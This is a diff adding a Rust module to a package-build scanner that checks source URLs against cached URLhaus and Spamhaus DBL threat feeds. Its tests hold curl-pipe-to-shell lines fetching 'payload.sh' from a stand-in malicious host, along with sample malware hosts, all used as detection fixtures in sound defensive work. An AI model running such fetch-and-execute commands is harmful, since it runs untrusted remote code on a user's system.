@@ -0,0 +1,223 @@
+//! Source URLs checked against locally cached threat-intel feeds.
+//!
+//! The pattern and source-URL checks are structural: they flag how a download looks,
+//! not whether it is known to be bad. With `[threat_intel]` paths set, the URLs in
+//! `source=()` and in the matched lines of other signals are looked up in a URLhaus
+//! dump (the plain-text URL list, the CSV export or the hostfile) and a Spamhaus DBL
+//! domain list, and hits are reported as signals. Nothing is downloaded; keeping the
+//! dumps current (a cron job or systemd timer) is up to the user.
+
+use crate::shared::config::ThreatIntelConfig;
+use crate::shared::scoring::{Signal, SignalCategory};
+use crate::shared::{source_arrays, trusted_domains};
+use std::collections::HashSet;
+use std::sync::OnceLock;
+
+/// Indicators loaded from the configured feeds.
+#[derive(Debug, Default)]
+pub struct Feeds {
+    /// URLhaus URLs, as `url_key`.
+    urlhaus_urls: HashSet<String>,
+    /// URLhaus hostfile entries.
+    urlhaus_hosts: HashSet<String>,
+    /// Spamhaus DBL domains.
+    dbl_domains: HashSet<String>,
+}
+
+impl Feeds {
+    fn is_empty(&self) -> bool {
+        self.urlhaus_urls.is_empty() && self.urlhaus_hosts.is_empty() && self.dbl_domains.is_empty()
+    }
+
+    /// Add a URLhaus dump: one URL per line, the CSV export (URL in a quoted field), or
+    /// the hostfile (`127.0.0.1 host`). `#` lines are comments.
+    fn add_urlhaus(&mut self, text: &str) {
+        for line in text.lines().map(str::trim).filter(|l| !l.is_empty() && !l.starts_with('#')) {
+            if line.contains("://") {
+                self.urlhaus_urls.extend(urls_in(line).iter().filter_map(|url| url_key(url)));
+            } else if let Some(host) = line.split_whitespace().last() {
+                self.urlhaus_hosts.insert(host.to_ascii_lowercase());
+            }
+        }
+    }
+
+    /// Add a Spamhaus DBL list: one domain per line, anything after it ignored.
+    /// `#` and `;` lines are comments.
+    fn add_dbl(&mut self, text: &str) {
+        for line in text.lines().map(str::trim) {
+            if line.is_empty() || line.starts_with(['#', ';']) {
+                continue;
+            }
+            if let Some(domain) = line.split_whitespace().next() {
+                self.dbl_domains.insert(domain.trim_end_matches('.').to_ascii_lowercase());
+            }
+        }
+    }
+
+    /// Whether the host or one of its parent domains is on the DBL.
+    fn dbl_listed(&self, host: &str) -> bool {
+        let mut domain = host;
+        loop {
+            if self.dbl_domains.contains(domain) {
+                return true;
+            }
+            match domain.split_once('.') {
+                Some((_, parent)) if parent.contains('.') => domain = parent,
+                _ => return false,
+            }
+        }
+    }
+}
+
+static FEEDS: OnceLock<Option<Feeds>> = OnceLock::new();
+
+/// The configured feeds, read once per process. None when none is configured or readable.
+pub fn feeds(config: &ThreatIntelConfig) -> Option<&'static Feeds> {
+    if config.urlhaus.is_none() && config.spamhaus_dbl.is_none() {
+        return None;
+    }
+    FEEDS.get_or_init(|| load(config)).as_ref()
+}
+
+fn load(config: &ThreatIntelConfig) -> Option<Feeds> {
+    let read = |path: &Option<String>| {
+        let path = path.as_deref()?;
+        std::fs::read_to_string(path)
+            .map_err(|e| eprintln!("traur: cannot read threat-intel feed {path}: {e}"))
+            .ok()
+    };
+    let mut feeds = Feeds::default();
+    if let Some(text) = read(&config.urlhaus) {
+        feeds.add_urlhaus(&text);
+    }
+    if let Some(text) = read(&config.spamhaus_dbl) {
+        feeds.add_dbl(&text);
+    }
+    (!feeds.is_empty()).then_some(feeds)
+}
+
+/// Signals for the source URLs of `pkgbuild` and the URLs in the matched lines of
+/// `signals` that the feeds list. One signal per listed URL or host.
+pub fn check(feeds: &Feeds, pkgbuild: Option<&str>, signals: &[Signal]) -> Vec<Signal> {
+    let sources = pkgbuild
+        .map(source_arrays::source_urls)
+        .unwrap_or_default()
+        .into_iter()
+        .flat_map(|(_, urls)| urls);
+    let matched = signals.iter().filter_map(|s| s.matched_line.as_deref()).flat_map(urls_in);
+
+    let mut seen = HashSet::new();
+    let mut hits = Vec::new();
+    for url in sources.chain(matched) {
+        let Some(host) = trusted_domains::url_host(&url) else {
+            continue;
+        };
+        let hit = if url_key(&url).is_some_and(|key| feeds.urlhaus_urls.contains(&key)) {
+            Some(("P-URLHAUS-URL", 95, format!("URL is listed in the URLhaus malware feed: {url}")))
+        } else if feeds.urlhaus_hosts.contains(&host) {
+            Some(("P-URLHAUS-HOST", 85, format!("Host is listed in the URLhaus malware feed: {host}")))
+        } else if feeds.dbl_listed(&host) {
+            Some(("P-SPAMHAUS-DBL", 80, format!("Domain is listed in the Spamhaus DBL: {host}")))
+        } else {
+            None
+        };
+        let Some((id, points, description)) = hit else {
+            continue;
+        };
+        if seen.insert(description.clone()) {
+            hits.push(Signal {
+                id: id.to_string(),
+                category: SignalCategory::Pkgbuild,
+                points,
+                description,
+                is_override_gate: false,
+                matched_line: Some(url),
+                location: None,
+                emitted_by: String::new(),
+            });
+        }
+    }
+    hits
+}
+
+/// http(s) and ftp URLs on a line, without surrounding quotes or brackets.
+fn urls_in(line: &str) -> Vec<String> {
+    let mut urls = Vec::new();
+    let mut rest = line;
+    while let Some(start) = ["https://", "http://", "ftp://"].iter().filter_map(|s| rest.find(s)).min() {
+        let url = rest[start..]
+            .split(|c: char| c.is_whitespace() || "'\"()<>|;,".contains(c))
+            .next()
+            .unwrap_or_default();
+        urls.push(url.to_string());
+        rest = &rest[start + url.len().max(1)..];
+    }
+    urls
+}
+
+/// A URL without its scheme and trailing slash, host lowercased, for comparing
+/// feed entries with PKGBUILD URLs.
+fn url_key(url: &str) -> Option<String> {
+    let host = trusted_domains::url_host(url)?;
+    let rest = url.split_once("://")?.1;
+    let path = rest.find(['/', '?', '#']).map_or("", |i| &rest[i..]);
+    Some(format!("{host}{}", path.trim_end_matches('/')))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn feeds() -> Feeds {
+        let mut feeds = Feeds::default();
+        feeds.add_urlhaus(
+            "# URLhaus\nhttp://203.0.113.7/bins/x86\n\
+             \"1\",\"2026-01-01 00:00:00\",\"https://Cdn.Example.net/payload.sh\",\"online\"\n\
+             127.0.0.1\tmalware.example.org\n",
+        );
+        feeds.add_dbl("; Spamhaus DBL\nbad-domain.example\n");
+        feeds
+    }
+
+    fn signal(line: &str) -> Signal {
+        Signal {
+            id: "P-CURL-PIPE".to_string(),
+            category: SignalCategory::Pkgbuild,
+            points: 95,
+            description: "curl output piped to shell".to_string(),
+            is_override_gate: true,
+            matched_line: Some(line.to_string()),
+            location: None,
+            emitted_by: String::new(),
+        }
+    }
+
+    #[test]
+    fn reports_listed_source_urls_hosts_and_domains() {
+        let pkgbuild = "source=(\"foo::http://203.0.113.7/bins/x86/\"\n\
+            https://malware.example.org/foo.tar.gz\n\
+            git+https://cdn.bad-domain.example/foo.git\n\
+            https://github.com/a/b/archive/v1.tar.gz)\n";
+        let hits = check(&feeds(), Some(pkgbuild), &[]);
+        let ids: Vec<&str> = hits.iter().map(|s| s.id.as_str()).collect();
+        assert_eq!(ids, ["P-URLHAUS-URL", "P-URLHAUS-HOST", "P-SPAMHAUS-DBL"]);
+        assert_eq!(hits[2].description, "Domain is listed in the Spamhaus DBL: cdn.bad-domain.example");
+    }
+
+    #[test]
+    fn checks_urls_in_matched_lines_once() {
+        let line = "curl -s 'https://cdn.example.net/payload.sh' | bash";
+        let hits = check(&feeds(), None, &[signal(line), signal(line)]);
+        assert_eq!(hits.len(), 1);
+        assert_eq!(hits[0].id, "P-URLHAUS-URL");
+        assert!(check(&feeds(), None, &[signal("curl https://cdn.example.net/other.sh | sh")]).is_empty());
+    }
+
+    #[test]
+    fn parent_of_a_listed_domain_is_not_listed() {
+        let feeds = feeds();
+        assert!(feeds.dbl_listed("a.b.bad-domain.example"));
+        assert!(!feeds.dbl_listed("example"));
+        assert!(!feeds.dbl_listed("good.example"));
+    }
+}